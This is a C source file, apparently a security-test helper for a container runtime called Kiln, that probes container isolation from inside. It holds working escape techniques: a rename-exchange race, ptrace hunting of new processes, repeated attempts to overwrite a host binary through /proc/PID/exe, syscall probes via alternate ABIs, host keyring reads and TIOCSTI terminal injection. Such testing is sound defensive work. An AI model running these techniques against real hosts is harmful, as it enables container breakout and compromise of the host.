/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What runs inside containers against the host: attacker COMMAND [ARGUMENT...]. Static, and small enough to be read.
 * It prints what it could do, one thing a line; tests/security/ judges.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void say(const char *what, long result)
{
	printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "OK");
}

/* --- races ------------------------------------------------------------------------------------------- */

/* exchange A B [SECONDS]: without seconds once */
static int exchange(char **a)
{
	double end = a[2] ? now() + atof(a[2]) : 0;
	long n = 0;

	do {
		if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) < 0) {
			say("exchange", -1);
			return 1;
		}
		n++;
	} while (now() < end);
	printf("exchanged %ld\n", n);
	return 0;
}

/* --- what runs beside us --------------------------------------------------------------------------------- */

/* A line of /proc/PID/status */
static void show_status(long pid, const char *field)
{
	char path[64], line[256];
	FILE *f;

	snprintf(path, sizeof path, "/proc/%ld/status", pid);
	f = fopen(path, "r");
	while (f && fgets(line, sizeof line, f))
		if (strncmp(line, field, strlen(field)) == 0)
			printf("%ld %s", pid, line);
	if (f)
		fclose(f);
}

static void show_link(long pid, const char *name)
{
	char path[96], to[512];
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%ld/%s", pid, name);
	n = readlink(path, to, sizeof to - 1);
	if (n > 0)
		printf("%ld %s %.*s\n", pid, name, (int)n, to);
}

static void show_fds(long pid)
{
	char path[64], name[32];
	struct dirent *d;
	DIR *dir;

	snprintf(path, sizeof path, "/proc/%ld/fd", pid);
	dir = opendir(path);
	while (dir && (d = readdir(dir)))
		if (d->d_name[0] != '.') {
			snprintf(name, sizeof name, "fd/%.20s", d->d_name);
			show_link(pid, name);
		}
	if (dir)
		closedir(dir);
}

/* Stop it where it is, look at all that it has, let it go on. Return: whether it may be traced */
static int look_at(long pid)
{
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0 || ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
		return 0;
	waitpid((pid_t)pid, &status, __WALL);
	show_status(pid, "CapEff");
	show_status(pid, "CapPrm");
	show_status(pid, "Seccomp:");
	show_link(pid, "exe");
	show_link(pid, "cwd");
	show_fds(pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 1;
}

static int trace_all(double end, int insists)
{
	static char seen[65536];
	struct dirent *d;

	seen[getpid()] = seen[1] = 1;
	puts("hunting");
	fflush(stdout);
	while (now() < end) {
		DIR *proc = opendir("/proc");

		while (proc && (d = readdir(proc))) {
			long pid = atol(d->d_name);

			if (pid <= 0 || pid >= 65536 || seen[pid])
				continue;
			seen[pid] = (char)(look_at(pid) || !insists);
			fflush(stdout);
		}
		if (proc)
			closedir(proc);
	}
	return 0;
}

/* hunt SECONDS: trace each process that appears, and tell its powers and descriptors */
static int hunt(char **a)
{
	return trace_all(now() + atof(a[0]), 0);
}

/* insist SECONDS: the same, and who may not be traced yet is tried again */
static int insist(char **a)
{
	return trace_all(now() + atof(a[0]), 1);
}

/* overwrite SECONDS: whoever runs a program that is not of this container has it overwritten, once it may be written */
static int overwrite(char **a)
{
	double end = now() + atof(a[0]);
	struct dirent *d;
	char path[64];

	for (; now() < end; usleep(200)) {
		DIR *proc = opendir("/proc");

		while (proc && (d = readdir(proc))) {
			struct stat st, own;
			long pid = atol(d->d_name);
			int fd;

			snprintf(path, sizeof path, "/proc/%ld/exe", pid);
			/* another file system than ours is not of this container */
			if (pid <= 0 || stat(path, &st) < 0 || stat("/proc/self/exe", &own) < 0 || st.st_dev == own.st_dev)
				continue;
			fd = open(path, O_RDONLY);
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			printf("found %ld\n", pid);
			for (; fd >= 0 && now() < end; usleep(200)) {
				int w = open(path, O_WRONLY);

				if (w >= 0 && write(w, "#!OWNED\n", 8) == 8) {
					puts("overwritten");
					return 0;
				}
				if (w >= 0 || errno != ETXTBSY) {
					say("write", -1);
					return 0;
				}
			}
			puts("busy");
		}
		if (proc)
			closedir(proc);
	}
	return 0;
}

/* --- system calls -------------------------------------------------------------------------------------------- */

struct call {
	const char *name;
	long native, i386;
	long args[5];
};
#define NONE (-1)
#ifdef __x86_64__
#define I386(n) n
#else
#define I386(n) NONE
#endif

/* With arguments with which the kernel itself says anything but EPERM */
static const struct call calls[] = {
	{ "socket-alg", SYS_socket, I386(359), { 38, SOCK_SEQPACKET, 0 } },
	{ "socket-vsock", SYS_socket, I386(359), { 40, SOCK_STREAM, 0 } },
	{ "keyctl", SYS_keyctl, I386(288), { 0, -3, 0 } },
	{ "add_key", SYS_add_key, I386(286), { 0, 0, 0, 0, -3 } },
	{ "bpf", SYS_bpf, I386(357), { -1, 0, 0 } },
	{ "userfaultfd", SYS_userfaultfd, I386(374), { 1 } },
	{ "io_uring_setup", SYS_io_uring_setup, I386(425), { 0, 0 } },
	{ "perf_event_open", SYS_perf_event_open, I386(336), { 0, 0, -1, -1, 0 } },
	{ "unshare-user", SYS_unshare, I386(310), { 0x10000000 } },
	{ "clone-user", SYS_clone, I386(120), { 0x10000000 | SIGCHLD, 0, 0, 0, 0 } },
	{ "mount", SYS_mount, I386(21), { 0, 0, 0, 0, 0 } },
	{ "fsopen", SYS_fsopen, I386(430), { 0, 0 } },
	{ "open_by_handle_at", SYS_open_by_handle_at, I386(342), { -1, 0, 0 } },
	{ "set_mempolicy", SYS_set_mempolicy, I386(276), { 0, 0, 0 } },
	{ "kexec_load", SYS_kexec_load, I386(283), { 0, 0, 0, 0 } },
	{ "clone3", SYS_clone3, I386(435), { 0, 0 } },
};

#ifdef __x86_64__
static long call_i386(const struct call *c)
{
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(c->i386), "b"(c->args[0]), "c"(c->args[1]), "d"(c->args[2]), "S"(c->args[3]), "D"(c->args[4])
			 : "memory", "r8", "r9", "r10", "r11");
	if ((int)result < 0 && (int)result > -4096) {
		errno = -(int)result;
		return -1;
	}
	return (int)result;
}
#endif

static long call_native(const struct call *c, long bit)
{
	return syscall(c->native | bit, c->args[0], c->args[1], c->args[2], c->args[3], c->args[4]);
}

/* In a child each: some of them would make a process, or end one */
static void try_call(const struct call *c, const char *abi, long bit)
{
	int status = 0;
	pid_t self = getpid(), pid = fork();

	if (pid == 0) {
		long r = -1;

#ifdef __x86_64__
		r = strcmp(abi, "i386") == 0 ? call_i386(c) : call_native(c, bit);
#else
		r = call_native(c, bit);
#endif
		if (getppid() == self) {
			printf("%s ", abi);
			say(c->name, r);
			fflush(stdout);
		}
		_exit(0);
	}
	waitpid(pid, &status, 0);
	if (WIFSIGNALED(status))
		printf("%s %s signal-%d\n", abi, c->name, WTERMSIG(status));
	fflush(stdout);
}

/* calls: each in all of the machine's ways to call */
static int try_calls(char **a)
{
	(void)a;
	for (size_t i = 0; i < sizeof calls / sizeof calls[0]; i++) {
		try_call(&calls[i], "native", 0);
#ifdef __x86_64__
		try_call(&calls[i], "x32", 0x40000000);
		try_call(&calls[i], "i386", 0);
#endif
	}
	return 0;
}

/* keys NAME: a key of the host's session */
static int keys(char **a)
{
	char text[256] = "";
	long key = syscall(SYS_keyctl, 10 /* SEARCH */, -3 /* the session's */, "user", a[0], 0);

	say("search", key);
	if (key >= 0 && syscall(SYS_keyctl, 11 /* READ */, key, text, sizeof text - 1) >= 0)
		printf("read %s\n", text);
	return 0;
}

/* tiocsti: push a line into the terminal that stdin is, as if somebody had typed it */
static int tiocsti(char **a)
{
	(void)a;
	for (const char *p = "touch owned\n"; *p; p++)
		if (ioctl(0, TIOCSTI, p) < 0) {
			say("TIOCSTI", -1);
			return 0;
		}
	say("TIOCSTI", 0);
	return 0;
}

/* status FIELD...: of our own */
static int status(char **a)
{
	for (; *a; a++)
		show_status(getpid(), *a);
	return 0;
}

/* open PATH...: for writing, else for reading */
static int try_open(char **a)
{
	for (; *a; a++) {
		int fd = open(*a, O_RDWR | O_NONBLOCK | O_CLOEXEC);
		char byte;

		if (fd < 0) {
			fd = open(*a, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
			printf("%s ", *a);
			say(fd < 0 ? "" : "read-only", fd);
		} else {
			printf("%s writable %s\n", *a, read(fd, &byte, 1) == 1 ? "read" : "empty");
		}
		close(fd);
	}
	return 0;
}

/* Return: whether there was an answer */
static int hello_once(const char *path)
{
	struct { uint16_t version, type; uint32_t bytes; char build[64]; } hello = { 1, 1, sizeof hello, "attacker" };
	struct sockaddr_un addr = { .sun_family = AF_UNIX };
	struct timeval patience = { .tv_sec = 1 };
	char answer[8192];
	int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0), ok;

	snprintf(addr.sun_path, sizeof addr.sun_path, "%s", path);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
	if (connect(fd, (struct sockaddr *)&addr, sizeof addr) < 0)
		return 0;
	ok = send(fd, &hello, sizeof hello, MSG_NOSIGNAL) > 0 && recv(fd, answer, sizeof answer, 0) > 0;
	close(fd);
	return ok;
}

/* hello PATH: connect to a socket of Kiln, and say hello; kilnd wants its place back, so more than once */
static int say_hello(char **a)
{
	for (int i = 0; i < 50; i++)
		if (hello_once(a[0])) {
			puts("answered");
			return 0;
		}
	puts("no answer");
	return 0;
}

/* --- the table ------------------------------------------------------------------------------------------------- */

static const struct {
	const char *name;
	int (*run)(char **args);
	int n_args;
} commands[] = {
	{ "exchange", exchange, 2 }, { "hunt", hunt, 1 }, { "insist", insist, 1 }, { "overwrite", overwrite, 1 }, { "calls", try_calls, 0 },
	{ "keys", keys, 1 }, { "tiocsti", tiocsti, 0 }, { "status", status, 1 }, { "open", try_open, 1 }, { "hello", say_hello, 1 },
};

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (size_t i = 0; argc > 1 && i < sizeof commands / sizeof commands[0]; i++)
		if (strcmp(argv[1], commands[i].name) == 0 && argc - 2 >= commands[i].n_args)
			return commands[i].run(argv + 2);
	fprintf(stderr, "attacker: unknown command\n");
	return 2;
}
